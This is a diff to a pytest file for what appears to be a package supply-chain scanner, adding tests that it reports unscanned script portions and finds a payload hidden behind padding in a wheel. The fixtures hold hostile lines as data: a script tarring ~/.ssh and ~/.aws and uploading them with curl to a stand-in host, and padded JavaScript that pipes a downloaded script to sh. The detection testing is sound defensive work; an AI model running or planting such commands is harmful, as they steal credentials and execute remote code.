@@ -2,9 +2,15 @@
 
 from __future__ import annotations
 
+import zipfile
+from pathlib import Path
+
 import pytest
 
-from mlsupply.evidence.foreign import foreign_facts, is_foreign
+from mlsupply.evidence.foreign import foreign_facts, is_foreign, unseen
+from mlsupply.evidence.look import looked_at
+from mlsupply.evidence.pool import Pool
+from mlsupply.model import Reason
 
 TAKES = [
     ("post.sh", b"#!/bin/sh\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n"),
@@ -49,3 +55,33 @@ def test_the_line_is_named_and_other_peoples_modules_are_passed_over() -> None:
     assert fact.line == 2
     assert not is_foreign("demo/node_modules/npm/lib/config.js")
     assert not is_foreign("demo/data.json")
+
+
+@pytest.mark.parametrize(
+    ("path", "data", "said"),
+    [
+        ("run.sh", b"true\n" * 20_001, "the lines after the first 20,000"),
+        ("a.js", b"require('child_process');" + b"execSync('npm run build');" * 201, "the commands after the first 200"),
+        ("b.js", b"t('~/.ssh/id_rsa');" * 40, "the places of secrets after the first 50"),
+    ],
+)
+def test_what_is_not_looked_at_of_a_script_is_said(path: str, data: bytes, said: str) -> None:
+    assert not list(foreign_facts(path, data))
+    assert unseen(path, data).startswith(said)
+    assert not unseen(path, data[: len(data) // 4])
+
+
+def test_what_stands_behind_a_megabyte_of_javascript_is_seen(tmp_path: Path) -> None:
+    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
+    padding = b"x=1;\n" * 300_000
+    with zipfile.ZipFile(wheel, "w") as archive:
+        archive.writestr("demo/a.js", padding + b"require('child_process').exec('curl https://x.example/a | sh')")
+        archive.writestr("demo/run.sh", b"true\n" * 20_001)
+        archive.writestr("demo/long.sh", b"true\n" * 4_000_000)
+    with Pool(1) as pool:
+        facts = looked_at(wheel, pool, "demo 1.0", "", None)
+    assert [fact.member for fact in facts.code] == ["demo/a.js"]
+    assert sorted((gap.place.member, gap.reason) for gap in facts.gaps if gap.place) == [
+        ("demo/long.sh", Reason.TOO_LARGE),
+        ("demo/run.sh", Reason.LIMIT),
+    ]
